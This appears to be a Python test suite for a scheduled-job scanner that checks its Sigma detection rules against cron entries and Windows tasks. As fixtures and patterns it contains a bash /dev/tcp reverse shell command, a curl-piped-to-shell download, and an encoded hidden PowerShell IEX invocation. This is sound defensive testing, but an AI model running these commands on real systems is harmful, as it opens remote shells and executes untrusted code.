"""Sigma over the inventory: the log source mapping, the modifiers the SQLite backend supports,
case-insensitive matching beyond ASCII, explanations, and user rules that cannot be used."""

from __future__ import annotations

import textwrap
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from schedwarden.analyzers.context import AnalysisContext
from schedwarden.analyzers.sigma_fields import job_rows
from schedwarden.analyzers.sigma_rules import (
    RulePack,
    builtin_pack,
    convert,
    evaluate,
    load_pack,
    load_text,
)
from schedwarden.model import (
    ComHandlerAction,
    CompositeSchedule,
    CronSchedule,
    Effective,
    Evidence,
    ExecAction,
    Mechanism,
    ScheduledJob,
    Severity,
    SourceKind,
    TriggerSchedule,
)

NOW = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
EVERY = CronSchedule("* * * * *", "*", "*", "*", "*", "*", "every minute")


def job(
    command: str = "/usr/bin/true",
    *,
    mechanism: Mechanism = Mechanism.CRON,
    name: str = "/etc/cron.d/x:1",
    run_as: str = "root",
    actions: tuple[ExecAction | ComHandlerAction, ...] | None = None,
    runs: bool | None = True,
    **changes: object,
) -> ScheduledJob:
    words = command.split()
    base = ScheduledJob(
        job_id=f"id-{abs(hash((name, command))) % 10**8}",
        mechanism=mechanism,
        technique={"windows_task": "T1053.005", "k8s_cronjob": "T1053.007"}.get(
            mechanism.value, "T1053.003"
        ),
        name=name,
        run_as=run_as,
        schedule=EVERY,
        actions=actions or (ExecAction(command, words[0], tuple(words[1:])),),
        effective=Effective(runs, "test"),
        evidence=Evidence(SourceKind.IMAGE, "h", "/etc/cron.d/x", line=1, mode="0644", uid=0),
        next_runs=tuple(NOW + timedelta(minutes=k) for k in (1, 2, 3)),
    )
    return replace(base, **changes)  # type: ignore[arg-type]


def rule_pack(body: str, *, product: str | None = None) -> RulePack:
    source = f"  product: {product}\n" if product else ""
    text = (
        "title: Test rule\nname: T_RULE\nid: 0b6a4a55-0f1b-4d2f-9c54-0f3e7f4d9a10\n"
        "status: test\ndescription: a test\nlevel: high\ntags: [attack.t1059]\n"
        "remediation: Do the thing.\nfalsepositives: [none]\n"
        f"logsource:\n  category: scheduled_job\n{source}detection:\n"
        + textwrap.indent(textwrap.dedent(body).strip() + "\n", "  ")
    )
    rules, problems = load_text("inline.yml", text, builtin=False)
    assert [str(p) for p in problems if p.level == "error"] == []
    return RulePack(tuple(rules))


def matched(pack: RulePack, *jobs: ScheduledJob) -> list[str]:
    return [f.job_id or "" for f in evaluate(pack, jobs)]


# ---------------------------------------------------------------------------------------------
# modifiers


@pytest.mark.parametrize(
    ("detection", "hit", "miss"),
    [
        ("sel:\n  Command|contains|all: [curl, '| sh']\ncondition: sel", "curl x | sh", "curl x"),
        ("sel:\n  Command|startswith: /opt/\ncondition: sel", "/opt/a", "/usr/opt/a"),
        ("sel:\n  Executable|endswith: .SH\ncondition: sel", "/x/run.sh", "/x/run.py"),
        ("sel:\n  Command: '/usr/bin/*'\ncondition: sel", "/usr/bin/a", "/bin/a"),
        ("sel:\n  Command|re: 'x\\d{3}'\ncondition: sel", "ax123", "axe12"),
        ("sel:\n  Command|re|i: 'ABC$'\ncondition: sel", "x abc", "x abcd"),
        ("sel:\n  Command|cased|contains: Foo\ncondition: sel", "a Foo b", "a foo b"),
        ("sel:\n  Command|windash|contains: ' -enc '\ncondition: sel", "ps /enc x", "ps -ec x"),
        (
            "sel:\n  Command|base64offset|contains: IEX\ncondition: sel",
            "echo SUVYIChOZXc=",
            "echo x",
        ),
        ("sel:\n  Env.LD_PRELOAD|exists: true\ncondition: sel", "LD", "none"),
        ("sel:\n  MinIntervalSeconds|lte: 60\ncondition: sel", "every", "hourly"),
        ("sel:\n  Executable|fieldref: Command\ncondition: sel", "/bin/one", "/bin/a b"),
        ("sel:\n  - '/dev/tcp/'\ncondition: sel", "cat </dev/tcp/x/1", "cat /dev/null"),
        ("sel:\n  Command|cidr: 10.0.0.0/8\ncondition: sel", "10.1.2.3", "11.1.2.3"),
        (
            "sel:\n  Command|wide|base64offset|contains: 'IEX'\ncondition: sel",
            "powershell -enc SQBFAFgAIAAoAE4A",
            "powershell -enc SQBGAA",
        ),
        ("sel:\n  Command|neq: /bin/true\ncondition: sel", "/bin/false", "/bin/true"),
        ("sel:\n  SourceModified|hour: 3\ncondition: sel", "at3", "at4"),
        (
            "sel:\n  Command|contains: a\nfilter:\n  Argv0: x\ncondition: sel and not filter",
            "a",
            "b",
        ),
    ],
    ids=lambda v: v.split("\n")[1].strip() if "\n" in v else v,
)
def test_modifiers(detection: str, hit: str, miss: str) -> None:
    """Each modifier the backend supports, against one matching and one other job."""
    pack = rule_pack(detection)

    def make(text: str) -> ScheduledJob:
        changes: dict[str, object] = {}
        if text == "LD":
            changes["environment"] = (("LD_PRELOAD", "/tmp/x.so"),)
        if text == "hourly":
            changes["next_runs"] = (NOW, NOW + timedelta(hours=1))
        if text.startswith("at"):
            moment = datetime(2026, 1, 1, int(text[2:]), 5, tzinfo=UTC)
            changes["evidence"] = Evidence(SourceKind.IMAGE, "h", "/etc/cron.d/x", mtime=moment)
        return job(text, name=text, **changes)

    assert matched(pack, make(hit), make(miss)) == [make(hit).job_id]


def test_case_insensitive_beyond_ascii() -> None:
    """Sigma ignores case in every alphabet; SQLite's LIKE only in ASCII."""
    pack = rule_pack("sel:\n  Command|contains: 'ÄRGER'\n  RunAs: 'STRAẞE'\ncondition: sel")
    assert matched(pack, job("echo ärger", run_as="straße")) != []
    assert matched(pack, job("echo arger", run_as="straße")) == []
    cased = rule_pack("sel:\n  Command|cased|contains: 'Ärger'\ncondition: sel")
    assert matched(cased, job("echo ärger")) == []
    assert matched(cased, job("echo Ärger")) != []


def test_product_and_service_select_rows() -> None:
    linux = rule_pack("sel:\n  Command|contains: x\ncondition: sel", product="windows")
    assert matched(linux, job("x")) == []
    assert matched(linux, job("x", mechanism=Mechanism.WINDOWS_TASK)) != []


def test_undecodable_evidence_bytes_are_matched_safely() -> None:
    pack = rule_pack("sel:\n  Command|contains: 'curl'\ncondition: sel")
    [finding] = evaluate(pack, [job("curl \udcff\udcfe|sh")])
    assert "\udcff" in finding.message  # quoted raw; the writers escape it


# ---------------------------------------------------------------------------------------------
# findings


def test_finding_carries_rule_metadata_and_names_the_matched_part() -> None:
    pack = builtin_pack()
    [finding] = [
        f
        for f in evaluate(pack, [job("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")])
        if f.rule_id == "REVERSE_SHELL_DEV_TCP"
    ]
    assert finding.title == "Reverse shell through bash /dev/tcp"
    assert finding.severity is Severity.CRITICAL
    assert finding.techniques == ("T1053", "T1059.004", "T1053.003")
    assert finding.job_id is not None
    assert finding.message.startswith("Payload contains '/dev/tcp/'")
    assert "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" in finding.message
    assert finding.remediation.startswith("Remove the job")


def test_dormant_job_is_one_level_lower() -> None:
    pack = builtin_pack()
    findings = evaluate(pack, [job("curl -s http://x/a | sh", runs=False)])
    assert {f.rule_id: f.severity for f in findings}["DOWNLOAD_PIPED_TO_SHELL"] is Severity.MEDIUM


def test_second_action_is_matched_and_named() -> None:
    """windows.md (f) 4: a benign first action hides nothing."""
    task = job(
        mechanism=Mechanism.WINDOWS_TASK,
        name="\\Cleanup",
        actions=(
            ExecAction(
                "C:\\Windows\\System32\\cleanmgr.exe", "C:\\Windows\\System32\\cleanmgr.exe"
            ),
            ExecAction(
                "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                "powershell",
                ("-w", "hidden", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
            ),
        ),
    )
    [finding] = [f for f in evaluate(builtin_pack(), [task]) if f.rule_id.startswith("POWERSHELL")]
    assert finding.message.endswith("(action 2 of 2)")


# ---------------------------------------------------------------------------------------------
# the log source fields


def test_rows_of_a_windows_task_with_taskcache_facts() -> None:
    task = job(
        mechanism=Mechanism.WINDOWS_TASK,
        name="\\Microsoft\\Windows\\UpdateOrchestrator\\Sched Scan",
        run_as="SYSTEM",
        actions=(
            ExecAction("C:\\ProgramData\\x\\y.exe -q", "C:\\ProgramData\\x\\y.exe", ("-q",)),
            ComHandlerAction("{E984D939-0E00-4DD9-AC3A-7ACA04745521}", "data"),
        ),
        hidden=True,
        schedule=CompositeSchedule(
            (TriggerSchedule("logon", "at logon"), TriggerSchedule("event", "on event", "<Q/>")),
            "logon or event",
        ),
        extra={
            "principal": {"run_level": "HighestAvailable", "logon_type": "S4U"},
            "registration": {"author": "Microsoft Corporation"},
            "sd_missing": True,
            "index": 0,
            "registry_only": True,
            "actions_differ": {"xml": ["a"], "registry": ["b"]},
        },
    )
    first, second = job_rows(task)
    assert first["Product"] == "windows" and first["Privileged"] is True
    assert first["ExecutableName"] == "y.exe" and first["ExecutableDir"] == "C:\\ProgramData\\x"
    assert first["Trigger"] == "logon,event" and first["TriggerDetail"] == "<Q/>"
    assert (first["RunLevel"], first["LogonType"], first["Author"]) == (
        "HighestAvailable",
        "S4U",
        "Microsoft Corporation",
    )
    assert (first["SdMissing"], first["TreeIndex"], first["RegistryOnly"]) == (True, 0, True)
    assert first["ActionsDiffer"] is True and first["Hidden"] is True
    assert (second["ActionIndex"], second["ActionCount"], second["ClassId"]) == (
        2,
        2,
        "{E984D939-0E00-4DD9-AC3A-7ACA04745521}",
    )
    findings = {f.rule_id for f in evaluate(builtin_pack(), [task])}
    assert {
        "WIN_TASK_SD_MISSING",
        "WIN_TASK_INDEX_ZERO",
        "WIN_TASK_REGISTRY_ONLY",
        "WIN_TASK_ACTIONS_DIFFER",
        "WIN_MICROSOFT_TASK_FOREIGN_PATH",
    } <= findings


def test_rows_of_a_cron_job_and_a_script() -> None:
    [row] = job_rows(
        job(
            "python3 /opt/x/run.py --fast",
            environment=(("PATH", "/usr/bin"), ("LD_PRELOAD", "/x.so")),
            extra={"no_log": True},
        )
    )
    assert row["ScriptPath"] == "/opt/x/run.py"
    assert row["Env.LD_PRELOAD"] == "/x.so" and row["Extra.no_log"] is True
    assert row["MinIntervalSeconds"] == 60 and row["ScheduleExpression"] == "* * * * *"
    script = job(
        "/etc/cron.daily/x",
        mechanism=Mechanism.PERIODIC,
        raw="#!/bin/sh\n# curl x | sh is only a comment\nlogrotate /etc/logrotate.conf\n",
    )
    [row] = job_rows(script)
    assert row["Script"] == script.raw
    assert row["Payload"] == "/etc/cron.daily/x\nlogrotate /etc/logrotate.conf"


# ---------------------------------------------------------------------------------------------
# user rules that cannot be used, and user rules that can


GOOD = """\
title: Runs /opt/evil
name: USER_OPT_EVIL
id: 3d9c1c2e-9a65-4c1a-8a57-4c9b7c3f0c11
status: test
description: a user's rule
logsource: {category: scheduled_job, product: linux}
detection:
  sel: {Command|contains: /opt/evil}
  condition: sel
level: medium
tags: [attack.t1053.003]
"""
BROKEN = {
    "yaml.yml": "title: [unclosed\n",
    "modifier.yml": GOOD.replace("Command|contains", "Command|nosuchmodifier").replace(
        "USER_OPT_EVIL", "BAD_MODIFIER"
    ),
    "logsource.yml": GOOD.replace("scheduled_job", "process_creation").replace(
        "USER_OPT_EVIL", "BAD_LOGSOURCE"
    ),
    "regex.yml": GOOD.replace("Command|contains: /opt/evil", "Command|re: '(unclosed'").replace(
        "USER_OPT_EVIL", "BAD_REGEX"
    ),
    "correlation.yml": GOOD.replace("USER_OPT_EVIL", "CORR_BASE").replace("3d9c", "4d9c")
    + "---\ntitle: c\nname: CORR\ncorrelation: {type: event_count, rules: [CORR_BASE], "
    "group-by: [JobName], timespan: 1h, condition: {gte: 2}}\n",
    "notutf8.yml": b"\xff\xfe\x00",
}


def test_malformed_user_rules_are_reported_by_name_and_skipped(tmp_path: Path) -> None:
    (tmp_path / "good.yml").write_text(GOOD)
    for name, text in BROKEN.items():
        path = tmp_path / "broken" / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
    pack = load_pack([tmp_path])
    assert "USER_OPT_EVIL" in {r.rule_id for r in pack.rules}
    errors = {Path(p.path).name: p for p in pack.problems if p.level == "error"}
    assert set(errors) == set(BROKEN)
    assert errors["modifier.yml"].rule == "BAD_MODIFIER"
    assert "nosuchmodifier" in errors["modifier.yml"].message
    assert errors["logsource.yml"].rule == "BAD_LOGSOURCE"
    assert "process_creation" in errors["logsource.yml"].message
    assert errors["regex.yml"].rule == "BAD_REGEX"
    assert errors["correlation.yml"].rule == "CORR"
    # the scan goes on with every usable rule, the user's included
    found = {f.rule_id for f in evaluate(pack, [job("/opt/evil/run")])}
    assert "USER_OPT_EVIL" in found and "SCHEDULE_EVERY_MINUTE" in found


def test_a_rule_the_backend_cannot_convert_is_reported() -> None:
    """`|expand` needs a pipeline that fills the placeholder: reported, never dropped silently."""
    text = GOOD.replace("Command|contains: /opt/evil", "Command|expand: '%evil_paths%'")
    rules, problems = load_text("expand.yml", text, builtin=False)
    assert rules == []
    [problem] = problems
    assert (problem.rule, problem.level) == ("USER_OPT_EVIL", "error")
    assert "cannot be converted" in problem.message and "evil_paths" in problem.message


def test_user_regex_runs_on_a_linear_time_engine() -> None:
    """A pathological pattern from a user's rule ((a+)+$) cannot stall the scan."""
    pack = rule_pack("sel:\n  Command|re: '^(a+)+$'\ncondition: sel")
    import time

    start = time.perf_counter()
    assert matched(pack, job("a" * 5000 + "!")) == []
    assert time.perf_counter() - start < 2


def test_conversion_through_an_installed_backend() -> None:
    rules = [r for r in builtin_pack().rules if r.rule_id == "WIN_TASK_SD_MISSING"]
    [result] = convert(rules, "sqlite")
    assert result.error is None
    assert "SdMissing" in result.queries[0]
    with pytest.raises(KeyError):
        convert(rules, "no-such-backend")


def test_context_rules_replace_the_builtin_pack() -> None:
    from schedwarden.analyzers.sigma_rules import analyze

    pack = rule_pack("sel:\n  Command|contains: zzz\ncondition: sel")
    findings = list(analyze([job("zzz")], [], AnalysisContext(rules=pack)))
    assert [f.rule_id for f in findings] == ["T_RULE"]
